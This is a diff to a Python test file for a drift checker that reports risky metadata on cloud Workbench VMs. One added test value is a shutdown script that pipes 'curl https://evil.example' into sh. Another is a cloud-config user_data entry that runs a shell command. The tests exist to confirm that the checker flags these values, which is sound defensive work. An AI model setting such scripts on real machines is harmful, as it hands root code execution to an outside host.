@@ -39,6 +39,7 @@ def plan(**keys):
         {},
         {"enable_oslogin": "TRUE", "enable_guest_attributes": "true", "disable_check_xsrf": "false"},
         {"proxy_mode": "mail", "proxy_user_mail": "ana@example.com"},
+        {"shutdown_script": "/opt/deeplearning/bin/shutdown_script.sh", "service_account_mode": "false"},
     ],
 )
 def test_what_workbench_set_is_right(our_fleet, keys):
@@ -53,6 +54,12 @@ def test_what_workbench_set_is_right(our_fleet, keys):
         ({"proxy_mode": "service_account"}, "others than the owner"),
         ({"proxy_user_mail": "mallory@example.com"}, "somebody else"),
         ({"disable_check_xsrf": "true"}, "web pages"),
+        ({"shutdown_script": "curl https://evil.example | sh"}, "root whenever the VM stops"),
+        ({"service_account_mode": "true"}, "act as the VM's account"),
+        (
+            {"user_data": "#cloud-config\nruncmd:\n- [sh, -c, id]\n"},
+            "#cloud-config runcmd: - [sh, -c, id], not absent",
+        ),
     ],
 )
 def test_another_value_is_said(our_fleet, keys, word):
@@ -63,3 +70,19 @@ def test_another_value_is_said(our_fleet, keys, word):
 
 def test_a_fleet_that_is_not_there_yet_has_not_drifted(our_fleet):
     assert hidden_drift.check(document(), our_fleet) == ()
+
+
+def test_what_workbench_gives_container_images_is_right():
+    text = QUICKSTART.read_text(encoding="utf-8").replace("ana-research", "ana")
+    text = text.replace(
+        "machine_type: e2-standard-4",
+        "machine_type: e2-standard-4\n    container: {repository: gcr.io/acme/workbench}",
+    )
+    containers = fleet.parse(text, file="fleet.yaml", today=date(2026, 11, 1))
+    given = plan(service_account_mode="true", user_data="#include file:///cloud-config.yaml")
+    assert hidden_drift.check(given, containers) == ()
+
+
+def test_a_long_value_is_cut(our_fleet):
+    (finding,) = hidden_drift.check(plan(shutdown_script="x" * 5000), our_fleet)
+    assert len(finding.message) < 300
